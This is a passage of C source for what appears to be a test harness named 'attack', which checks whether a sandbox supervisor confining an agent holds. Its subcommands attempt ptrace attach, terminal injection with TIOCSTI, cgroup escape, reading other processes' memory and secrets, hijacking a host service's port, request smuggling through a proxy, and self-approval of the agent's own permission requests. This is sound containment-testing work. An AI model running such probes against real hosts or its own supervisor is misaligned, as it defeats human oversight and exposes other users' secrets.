	fprintf(f, "%d %d %d\n", key, shm, msq);
	fclose(f);
	pause();
	(void)shmctl(shm, IPC_RMID, NULL);
	(void)msgctl(msq, IPC_RMID, NULL);
	return 0;
}

/*
 * watch PATH...: an inotify watch on each (a directory it may not list, a
 * file it may not read): granted, the names made, opened and removed there
 * are the agent's to see.
 */
static int watch_paths(int n, char **paths)
{
	int fd = inotify_init1(IN_CLOEXEC), err = 0;

	if (fd < 0)
		return verdict(-1, errno, "inotify_init1");
	for (int i = 0; i < n; i++) {
		if (inotify_add_watch(fd, paths[i], IN_ALL_EVENTS) >= 0)
			return breach("an inotify watch on %s", paths[i]);
		err = errno;
	}
	return verdict(-1, err, "inotify_add_watch on each");
}

/* acl FILE: a POSIX ACL granting others rwx, set with setxattr (what chmod 0707 would do). */
static int acl_grant(const char *file)
{
	/* struct posix_acl_xattr_header + entries, little-endian: USER_OBJ rwx, GROUP_OBJ r, OTHER rwx. */
	static const unsigned char acl[] = {
		2, 0, 0, 0,
		1, 0, 7, 0, 0xff, 0xff, 0xff, 0xff,
		4, 0, 4, 0, 0xff, 0xff, 0xff, 0xff,
		0x20, 0, 7, 0, 0xff, 0xff, 0xff, 0xff,
	};
	int r = (int)syscall(SYS_setxattr, file, "system.posix_acl_access", acl, sizeof(acl), 0);

	return verdict(r, errno, "setxattr system.posix_acl_access");
}

/*
 * reuseport PORT: join a host service's TCP port on loopback with
 * SO_REUSEPORT (same uid: the kernel lets it share the port, and takes a
 * share of its connections); then a UDP one with SO_REUSEADDR.
 */
static int reuseport(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int one = 1, t = socket(AF_INET, SOCK_STREAM, 0), u = socket(AF_INET, SOCK_DGRAM, 0);

	if (t < 0 || u < 0)
		return verdict(-1, errno, "socket");
	if (setsockopt(t, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one)) == 0 &&
	    bind(t, (struct sockaddr *)&a, sizeof(a)) == 0 && listen(t, 1) == 0) {
		printf("BREACH: joined the host's TCP port %d (SO_REUSEPORT)\n", port);
		return 1;
	}
	if (errno != EPERM && errno != EACCES)
		return verdict(-1, errno, "SO_REUSEPORT on the host's port (not the floor's refusal)");
	if (setsockopt(u, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) == 0 &&
	    bind(u, (struct sockaddr *)&a, sizeof(a)) == 0) {
		printf("BREACH: shared the host's UDP port %d (SO_REUSEADDR)\n", port);
		return 1;
	}
	return verdict(-1, errno, "SO_REUSEPORT / SO_REUSEADDR on a host service's port");
}

/* reuseport-serve FILE: a host service listening with SO_REUSEPORT (TCP) and SO_REUSEADDR (UDP). */
static int reuseport_serve(const char *file)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t l = sizeof(a);
	int one = 1, t = socket(AF_INET, SOCK_STREAM, 0), u = socket(AF_INET, SOCK_DGRAM, 0);
	FILE *f;

	if (t < 0 || u < 0 || setsockopt(t, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one)) < 0 ||
	    bind(t, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(t, 8) < 0 ||
	    getsockname(t, (struct sockaddr *)&a, &l) < 0 ||
	    setsockopt(u, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
	    bind(u, (struct sockaddr *)&a, sizeof(a)) < 0 || !(f = fopen(file, "w")))
		return 2;
	fprintf(f, "%d\n", ntohs(a.sin_port));
	fclose(f);
	pause();
	return 0;
}

static void sysv_cleanup(int sig)
{
	(void)sig;
}

int main(int argc, char **argv)
{
	const char *a = argc > 1 ? argv[1] : "";
	const char *x = argc > 2 ? argv[2] : "";
	const char *y = argc > 3 ? argv[3] : "0";
	struct sockaddr_storage ss;
	socklen_t len;
	int fd, r;

	setvbuf(stdout, NULL, _IONBF, 0);
	/* Installed as "git": an ELF that says what it was asked (argv-race). */
	if (argc > 0 && !strcmp(strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0], "git")) {
		printf("ran %s\n", a);
		return 0;
	}
	if (!strcmp(a, "host-paths"))
		return host_paths(argc - 2, argv + 2);
	if (!strcmp(a, "host-procs"))
		return host_procs((pid_t)atoi(x));
	if (!strcmp(a, "sysv") && argc == 5)
		return sysv(atoi(x), atoi(y), atoi(argv[4]));
	if (!strcmp(a, "keyring"))
		return keyring();
	if (!strcmp(a, "acl"))
		return acl_grant(x);
	if (!strcmp(a, "watch") && argc >= 3)
		return watch_paths(argc - 2, argv + 2);
	if (!strcmp(a, "reuseport"))
		return reuseport(atoi(x));
	if (!strcmp(a, "reuseport-serve"))
		return reuseport_serve(x);
	if (!strcmp(a, "fds"))
		return inherited_fds(x);
	if (!strcmp(a, "clone3-cgroup"))
		return clone3_cgroup(x);
	if (!strcmp(a, "pty-hold"))
		return pty_hold(x);
	if (!strcmp(a, "sysv-make")) {
		signal(SIGTERM, sysv_cleanup);
		return sysv_make(x);
	}
	if (!strcmp(a, "echo-serve"))
		return echo_serve(x);
	if (!strcmp(a, "serve"))
		return serve(x);
	if (!strcmp(a, "su") && argc > 3) {  /* su UID PROG [ARGS]: run as UID, no groups */
		uid_t u = (uid_t)atoi(x);

		if (setgroups(0, NULL) < 0 || setresgid(u, u, u) < 0 || setresuid(u, u, u) < 0)
			return 2;
		execvp(argv[3], argv + 3);
		return 127;
	}
	if (!strcmp(a, "exec-loop") || !strcmp(a, "connect-loop")) {
		/* benchmarks: ns per fork+exec of /bin/true, or per TCP connect to 127.0.0.1:PORT */
		bool ex = !strcmp(a, "exec-loop");
		int n = atoi(ex ? x : y);
		struct timespec t0, t1;
		struct sockaddr_in sa = { .sin_family = AF_INET,
					  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };

		sa.sin_port = htons((uint16_t)atoi(x));
		clock_gettime(CLOCK_MONOTONIC, &t0);
		for (int i = 0; i < n; i++) {
			if (ex) {
				pid_t p = fork();

				if (p == 0) {
					execl("/bin/true", "true", (char *)NULL);
					_exit(127);
				}
				waitpid(p, NULL, 0);
			} else {
				fd = socket(AF_INET, SOCK_STREAM, 0);
				if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
					perror("connect-loop");
					return 2;
				}
				close(fd);
			}
		}
		clock_gettime(CLOCK_MONOTONIC, &t1);
		printf("%.0f\n", ((t1.tv_sec - t0.tv_sec) * 1e9 + (t1.tv_nsec - t0.tv_nsec)) / n);
		return 0;
	}
	if (!strcmp(a, "exec-killed")) {
		/*
		 * exec-killed N: N children exec /bin/true.  Four in five are
		 * killed by this process while the supervisor holds their exec:
		 * once /proc/CHILD/syscall shows it blocked in execve (the
		 * notification), after a delay sweeping 0-195 us, so that the
		 * kill lands at every point of the hold (before the
		 * supervisor's reads, between its arm and its answer, after).
		 * The fifth runs.  Prints "ran=R killed=K".
		 */
		int n = atoi(x), ran = 0, killed = 0;

		for (int i = 0; i < n; i++) {
			long d = (long)(i % 40) * 5000;
			char sp[64], sc[32];
			struct timespec t, u;
			int st;
			pid_t p = fork();

			if (p == 0) {
				execl("/bin/true", "true", (char *)NULL);
				_exit(127);
			}
			if (p < 0)
				return 2;
			snprintf(sp, sizeof(sp), "/proc/%d/syscall", (int)p);
			for (int k = 0; i % 5 != 4 && k < 20000; k++) {
				int f = open(sp, O_RDONLY | O_CLOEXEC);
				ssize_t m = f < 0 ? -1 : read(f, sc, sizeof(sc) - 1);

				if (f >= 0)
					close(f);
				if (m <= 0)
					break;          /* gone, or not ours to read */
				sc[m] = '\0';
				if (!strncmp(sc, "59 ", 3) || !strncmp(sc, "322 ", 4))
					break;          /* in execve or execveat: held */
			}
			clock_gettime(CLOCK_MONOTONIC, &t);
			do
				clock_gettime(CLOCK_MONOTONIC, &u);
			while ((u.tv_sec - t.tv_sec) * 1000000000L + (u.tv_nsec - t.tv_nsec) < d);
			if (i % 5 != 4)
				kill(p, SIGKILL);
			if (waitpid(p, &st, 0) == p) {
				ran += WIFEXITED(st) && WEXITSTATUS(st) == 0;
				killed += WIFSIGNALED(st);
			}
		}
		printf("ran=%d killed=%d\n", ran, killed);
		return 0;
	}
	if (!strcmp(a, "alloc")) {     /* alloc MIB: touch that much memory */
		size_t n = (size_t)atoi(x) << 20;
		char *p = malloc(n);

		for (size_t i = 0; p && i < n; i += 4096)
			p[i] = 1;
		printf("%s\n", p ? "allocated" : "malloc failed");
		return 0;
	}
	if (!strcmp(a, "sleep")) {
		sleep((unsigned)atoi(x));
		return 0;
	}
	if (!strcmp(a, "victim")) {     /* victim UID: a host process of that uid */
		uid_t u = (uid_t)atoi(x);

		if (setgroups(0, NULL) < 0 || setresgid(u, u, u) < 0 || setresuid(u, u, u) < 0)
			return 2;
		setenv("SECRET_IN_ENV", "hunter2", 1);
		execlp("sleep", "sleep", "600", (char *)NULL);
		return 2;
	}
	if (!strcmp(a, "connect") || !strcmp(a, "sendto") || !strcmp(a, "connect-short6")) {
		int fam = inet_addr_of(x, atoi(y), &ss, &len);
		bool tcp = strcmp(a, "sendto");

		if (fam < 0)
			return 2;
		/* connect-short6: RFC 2133's 24-byte sockaddr_in6, which the kernel takes. */
		if (!strcmp(a, "connect-short6")) {
			if (fam != AF_INET6)
				return 2;
			len = 24;
		}
		fd = socket(fam, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
		if (fd < 0)
			return verdict(fd, errno, "socket");
		if (tcp)
			r = connect(fd, (struct sockaddr *)&ss, len);
		else
			r = (int)sendto(fd, "x", 1, 0, (struct sockaddr *)&ss, len);
		return verdict(r, errno, tcp ? "TCP connect" : "UDP sendto");
	}
	if (!strcmp(a, "sendto-flood")) {
		/*
		 * sendto-flood HOST PORT N DIR: DIR/ready, wait for DIR/go (60 s),
		 * then N datagrams to HOST:PORT; DIR/done says how many the kernel
		 * refused with EPERM.  The waiting polls access(2), which nothing
		 * lifts, so a test may stop the supervisor meanwhile.
		 */
		int n = argc > 4 ? atoi(argv[4]) : 0, refused = 0;
		const char *dir = argc > 5 ? argv[5] : NULL;
		char f[PATH_MAX];
		FILE *o;

		if (inet_addr_of(x, atoi(y), &ss, &len) < 0 || n <= 0 || !dir)
			return 2;
		fd = socket(ss.ss_family, SOCK_DGRAM, 0);
		if (fd < 0)
			return verdict(fd, errno, "socket");
		snprintf(f, sizeof(f), "%s/ready", dir);
		if (!(o = fopen(f, "w")) || fclose(o))
			return 2;
		snprintf(f, sizeof(f), "%s/go", dir);
		for (int i = 0; access(f, F_OK) < 0; i++) {
			if (i >= 6000)
				return 2;
			usleep(10000);
		}
		for (int i = 0; i < n; i++)
			if (sendto(fd, "x", 1, 0, (struct sockaddr *)&ss, len) < 0 && errno == EPERM)
				refused++;
		snprintf(f, sizeof(f), "%s/done", dir);
		if (!(o = fopen(f, "w")) || fprintf(o, "%d\n", refused) < 0 || fclose(o))
			return 2;
		printf("%s: %d of %d datagrams refused\n", refused == n ? "contained" : "BREACH",
		       refused, n);
		return refused == n ? 0 : 1;
	}
	if (!strcmp(a, "bind")) {     /* bind ADDR PORT: a TCP listener's address */
		int fam = inet_addr_of(x, atoi(y), &ss, &len);

		if (fam < 0)
			return 2;
		fd = socket(fam, SOCK_STREAM, 0);
		if (fd < 0)
			return verdict(fd, errno, "socket");
		r = bind(fd, (struct sockaddr *)&ss, len);
		return verdict(r, errno, "bind");
	}
	if (!strcmp(a, "socket")) {   /* socket FAMILY TYPE PROTO */
		fd = socket(atoi(x), atoi(y), argc > 4 ? atoi(argv[4]) : 0);
		return verdict(fd, errno, "socket");
	}
	if (!strcmp(a, "unix") || !strcmp(a, "unix-abstract")) {
		struct sockaddr_un un;
		socklen_t l = unix_addr(x, !strcmp(a, "unix-abstract"), &un);

		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		r = connect(fd, (struct sockaddr *)&un, l);
		return verdict(r, errno, "unix connect");
	}
	if (!strcmp(a, "ptrace")) {
		r = (int)ptrace(PTRACE_ATTACH, atoi(x), 0, 0);
		return verdict(r, errno, "ptrace attach");
	}
	if (!strcmp(a, "kill")) {
		r = kill(atoi(x), 0);
		return verdict(r, errno, "signal");
	}
	if (!strcmp(a, "read")) {
		char buf[64];

		fd = open(x, O_RDONLY);
		r = fd < 0 ? -1 : (int)read(fd, buf, sizeof(buf));
		return verdict(r, errno, "read");
	}
	if (!strcmp(a, "truncate-ro")) {  /* open(O_RDONLY | O_TRUNC): empties a file it may write */
		fd = open(x, O_RDONLY | O_TRUNC);
		return verdict(fd, errno, "open O_RDONLY|O_TRUNC");
	}
	if (!strcmp(a, "write")) {
		fd = open(x, O_WRONLY | O_CREAT | O_APPEND, 0644);
		r = fd < 0 ? -1 : (int)write(fd, "x\n", 2);
		return verdict(r, errno, "write");
	}
	if (!strcmp(a, "bpf")) {       /* BPF_OBJ_GET of a pinned map */
		union bpf_attr attr;

		memset(&attr, 0, sizeof(attr));
		attr.pathname = (uint64_t)(uintptr_t)x;
		r = (int)syscall(SYS_bpf, BPF_OBJ_GET, &attr, sizeof(attr));
		return verdict(r, errno, "bpf(BPF_OBJ_GET)");
	}
	if (!strcmp(a, "mount")) {
		r = mount("none", x, "tmpfs", 0, NULL);
		return verdict(r, errno, "mount");
	}
	if (!strcmp(a, "userns")) {
		r = unshare(CLONE_NEWUSER);
		return verdict(r, errno, "unshare(CLONE_NEWUSER)");
	}
	if (!strcmp(a, "module")) {
		r = (int)syscall(SYS_finit_module, -1, "", 0);
		if (r < 0 && errno == EBADF)    /* reached the kernel's fd check: not refused */
			r = 0;
		return verdict(r, errno, "finit_module");
	}
	if (!strcmp(a, "tiocsti")) {
		char c = 'x';

		fd = open(*x ? x : "/dev/tty", O_RDWR);
		if (fd < 0)
			fd = 0;
		r = ioctl(fd, TIOCSTI, &c);
		return verdict(r, errno, "TIOCSTI");
	}
	if (!strcmp(a, "mmap-exec")) {
		void *p;

		fd = open(x, O_RDONLY);
		if (fd < 0)
			return verdict(fd, errno, "open for mmap");
		p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
		return verdict(p == MAP_FAILED ? -1 : 0, errno, "mmap PROT_EXEC");
	}
	if (!strcmp(a, "exec-forms"))
		return exec_forms(x);
	if (!strcmp(a, "unix-dgram") && argc == 3)
		return unix_dgram(x);
	if (!strcmp(a, "unix-race") && argc == 5)
		return unix_race(x, atoi(y), argv[4]);
	if (!strcmp(a, "peer-serve") && argc == 3)
		return peer_serve(x);
	if (!strcmp(a, "unix-peer") && argc == 3)
		return unix_peer(x);
	if (!strcmp(a, "unix-own") && argc == 3)
		return unix_own(x);
	if (!strcmp(a, "argv-race"))    /* argv-race GIT N thread|shared */
		return argv_race(x, atoi(y), argc > 4 ? argv[4] : "thread");
	if (!strcmp(a, "open-race"))
		return open_race(x, y, argc > 4 ? atoi(argv[4]) : 200);
	if (!strcmp(a, "connect-race"))
		return connect_race(atoi(x), atoi(y), argc > 4 ? atoi(argv[4]) : 200);
	if (!strcmp(a, "exec")) {
		execv(x, argv + 2);
		return verdict(-1, errno, "exec");
	}
	if (!strcmp(a, "iouring-read") && argc == 3)
		return iouring_read(x);
	if (!strcmp(a, "iouring-connect") && argc == 4)
		return iouring_connect(x, atoi(y));
	if (!strcmp(a, "memfd-exec"))
		return memfd_exec();
	if (!strcmp(a, "execveat-empty") && argc == 3)
		return execveat_empty(x);
	if (!strcmp(a, "daemon") && argc == 4)
		return daemon_spawn(x, atoi(y));
	if (!strcmp(a, "cgroup-escape"))
		return cgroup_escape();
	if (!strcmp(a, "find-secret") && argc == 3)
		return find_secret(x);
	if (!strcmp(a, "proc-mem") && argc == 3)
		return proc_mem(x);
	if ((!strcmp(a, "symlink") || !strcmp(a, "hardlink")) && argc == 4)
		return link_read(x, y, !strcmp(a, "hardlink"));
	if (!strcmp(a, "sni-mismatch") && argc == 6)
		return sni_mismatch(atoi(x), y, argv[4], argv[5]);
	if (!strcmp(a, "smuggle") && argc == 5)
		return smuggle(atoi(x), y, argv[4]);
	if (!strcmp(a, "approve") && (argc == 3 || argc == 4))
		return approve_self(x, argc == 4 ? argv[3] : NULL);
	if (!strcmp(a, "deep-dirs") && argc == 4)
		return deep_dirs(x, atol(y));
	if (!strcmp(a, "intent") && argc == 4)
		return intent_self(x, y);
	fprintf(stderr, "usage: attack serve DIR | echo-serve PORTFILE | victim UID | su UID PROG [ARGS] |\n  connect|connect-short6|sendto|bind HOST PORT | sendto-flood HOST PORT N DIR | socket FAMILY TYPE [PROTO] |\n"
		"  unix PATH | unix-abstract NAME | ptrace PID | kill PID | read FILE | truncate-ro FILE |\n"
		"  write FILE | bpf PINNED | mount DIR | userns | module | tiocsti [TTY] |\n"
		"  mmap-exec FILE | exec FILE [ARGS] | argv-race GIT N thread|shared |\n"
		"  connect-race ALLOWED FORBIDDEN [N] | open-race A B [N] | sleep S |\n"
		"  iouring-read FILE | iouring-connect HOST PORT | memfd-exec |\n"
		"  execveat-empty FILE | daemon PIDFILE SECONDS | cgroup-escape |\n"
		"  find-secret NEEDLE|env:VAR | proc-mem PID | symlink|hardlink TARGET LINK |\n"
		"  sni-mismatch PROXYPORT HOST PORT SNI | smuggle PROXYPORT HOST PORT |\n"
		"  approve SOCKET [ID] | intent SOCKET SENTENCE | deep-dirs DIR N |\n"
		"  unix-dgram PATH | unix-race PATH N abstract|unspec |\n"
		"  peer-serve PATH | unix-peer PATH | unix-own DIR\n");
	return 2;
}
